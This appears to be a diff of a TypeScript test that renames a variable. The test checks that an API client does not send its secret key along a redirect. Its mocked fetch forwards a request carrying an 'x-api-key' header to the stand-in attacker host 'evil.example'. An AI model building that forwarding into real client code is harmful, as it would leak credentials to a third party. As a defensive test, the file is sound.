@@ -6,20 +6,20 @@ const connectionOf = (fetch: typeof globalThis.fetch) => ({
 
 /** As `fetch` does it: a redirect is followed with its headers, unless it is asked not to be. */
 function redirecting() {
-  const asked: { url: string; key: string | null }[] = [];
+  const requested: { url: string; key: string | null }[] = [];
   const fetch: typeof globalThis.fetch = async (input, init) => {
-    asked.push({ url: String(input), key: new Headers(init?.headers).get("x-api-key") });
+    requested.push({ url: String(input), key: new Headers(init?.headers).get("x-api-key") });
     if (init?.redirect === "error") throw new TypeError("fetch failed");
-    if (init?.redirect !== "manual" && asked.length === 1) return fetch("https://evil.example/", init);
+    if (init?.redirect !== "manual" && requested.length === 1) return fetch("https://evil.example/", init);
     return Response.json({});
   };
-  return { asked, fetch };
+  return { requested, fetch };
 }
 
 test.each(["GET", "POST"] as const)("a secret key follows no redirect: %s", async (method) => {
-  const { asked, fetch } = redirecting();
+  const { requested, fetch } = redirecting();
   await expect(callApi(connectionOf(fetch), { method, path: "/facilitate" })).rejects.toMatchObject({
     name: "LunasError",
   });
-  expect(asked).toEqual([{ url: "https://pay.example/facilitate", key: "ipk_sandbox_secret" }]);
+  expect(requested).toEqual([{ url: "https://pay.example/facilitate", key: "ipk_sandbox_secret" }]);
 });
